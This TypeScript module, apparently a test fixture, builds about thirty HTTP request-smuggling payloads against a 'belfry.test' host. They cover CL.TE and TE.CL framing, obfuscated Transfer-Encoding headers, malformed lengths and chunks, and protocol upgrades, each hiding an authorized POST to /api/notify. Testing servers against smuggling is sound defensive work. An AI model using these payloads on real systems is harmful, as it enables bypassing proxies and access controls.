/** Requests whose length two parsers may read differently, with another request in what one of them takes for the body. */

type Attack = (authorization: string, mark: string) => Buffer;

/** The request that is to be smuggled. */
const inner = (authorization: string, mark: string) =>
  `POST /api/notify HTTP/1.1\r\nHost: belfry.test\r\nAuthorization: ${authorization}\r\nX-Title: ${mark}\r\nX-Message: M\r\nContent-Length: 0\r\n\r\n`;

/** An outer request with these framing lines, and a body made of the inner one. */
const framed =
  (lines: string, body: (inner: string) => string): Attack =>
  (authorization, mark) => {
    const text = body(inner(authorization, mark));
    const head = lines.replace('LENGTH', String(Buffer.byteLength(text)));
    return Buffer.from(
      `POST /healthz HTTP/1.1\r\nHost: belfry.test\r\nContent-Type: text/plain\r\n${head}\r\n\r\n${text}`,
      'latin1',
    );
  };

/** Ends a chunked body before the inner request. */
const ended = (smuggled: string) => `0\r\n\r\n${smuggled}`;
/** Holds the inner request in a chunk. */
const chunked = (smuggled: string) =>
  `${Buffer.byteLength(smuggled).toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
const plain = (smuggled: string) => smuggled;

export const attacks: readonly (readonly [name: string, make: Attack])[] = [
  ['CL.TE', framed('Content-Length: LENGTH\r\nTransfer-Encoding: chunked', ended)],
  ['TE.CL', framed('Transfer-Encoding: chunked\r\nContent-Length: 4', chunked)],
  [
    'TE.TE, the second unknown',
    framed('Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: 4', chunked),
  ],
  [
    'TE.TE, the first unknown',
    framed('Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\nContent-Length: LENGTH', ended),
  ],
  ['a space before the colon', framed('Content-Length: LENGTH\r\nTransfer-Encoding : chunked', ended)],
  ['a tab in the value', framed('Content-Length: LENGTH\r\nTransfer-Encoding:\tchunked', ended)],
  ['a vertical tab', framed('Content-Length: LENGTH\r\nTransfer-Encoding: \u000bchunked', ended)],
  ['a NUL', framed('Content-Length: LENGTH\r\nTransfer-Encoding: chunked\u0000', ended)],
  ['quotes', framed('Content-Length: LENGTH\r\nTransfer-Encoding: "chunked"', ended)],
  ['a list', framed('Content-Length: LENGTH\r\nTransfer-Encoding: identity, chunked', ended)],
  ['chunked is not last', framed('Content-Length: LENGTH\r\nTransfer-Encoding: chunked, identity', ended)],
  ['capitals', framed('Content-Length: LENGTH\r\ntRANSFER-eNCODING: CHUNKED', ended)],
  ['a folded line', framed('Content-Length: LENGTH\r\nTransfer-Encoding:\r\n chunked', ended)],
  ['a header after a bare line feed', framed('Content-Length: LENGTH\nTransfer-Encoding: chunked', ended)],
  [
    'a header after a bare carriage return',
    framed('Content-Length: LENGTH\rTransfer-Encoding: chunked', ended),
  ],
  ['an underscore', framed('Content-Length: LENGTH\r\nTransfer_Encoding: chunked', ended)],
  ['two lengths, the first short', framed('Content-Length: 0\r\nContent-Length: LENGTH', plain)],
  ['two lengths, the second short', framed('Content-Length: LENGTH\r\nContent-Length: 0', plain)],
  ['two lengths in a list', framed('Content-Length: LENGTH, 0', plain)],
  ['a length with a sign', framed('Content-Length: +LENGTH', plain)],
  ['a length with a leading zero', framed('Content-Length: 00LENGTH', plain)],
  ['a length in hex', framed('Content-Length: 0x1', plain)],
  ['a length with a space inside', framed('Content-Length: 1 0', plain)],
  [
    'a chunk size beyond 32 bits',
    framed('Transfer-Encoding: chunked', (smuggled) => `100000000\r\n\r\n0\r\n\r\n${smuggled}`),
  ],
  ['a chunk size with 0x', framed('Transfer-Encoding: chunked', (smuggled) => `0x0\r\n\r\n${smuggled}`)],
  [
    'a chunk that ends in a bare line feed',
    framed('Transfer-Encoding: chunked', (smuggled) => `1\nx\n0\n\n${smuggled}`),
  ],
  [
    'a chunk extension with a line feed',
    framed('Transfer-Encoding: chunked', (smuggled) => `1;\nx\r\nx\r\n0\r\n\r\n${smuggled}`),
  ],
  [
    'a trailer that is a header',
    framed('Transfer-Encoding: chunked', (smuggled) => `0\r\nContent-Length: 5\r\n\r\n${smuggled}`),
  ],
  [
    'a body on GET',
    (authorization, mark) =>
      Buffer.from(
        `GET /healthz HTTP/1.1\r\nHost: belfry.test\r\nContent-Length: ${inner(authorization, mark).length}\r\n\r\n${inner(authorization, mark)}`,
      ),
  ],
  [
    'HTTP/1.0 with chunks',
    (authorization, mark) =>
      Buffer.from(
        `POST /healthz HTTP/1.0\r\nHost: belfry.test\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner(authorization, mark)}`,
      ),
  ],
  [
    'an upgrade to h2c',
    (authorization, mark) =>
      Buffer.from(
        `GET /healthz HTTP/1.1\r\nHost: belfry.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n${inner(authorization, mark)}`,
      ),
  ],
  [
    'an upgrade to websocket',
    (authorization, mark) =>
      Buffer.from(
        `GET /healthz HTTP/1.1\r\nHost: belfry.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 7\r\n\r\n${inner(authorization, mark)}`,
      ),
  ],
  [
    'Expect with a body',
    (authorization, mark) =>
      Buffer.from(
        `POST /healthz HTTP/1.1\r\nHost: belfry.test\r\nExpect: 100-continue\r\nContent-Length: ${inner(authorization, mark).length}\r\n\r\n${inner(authorization, mark)}`,
      ),
  ],
];
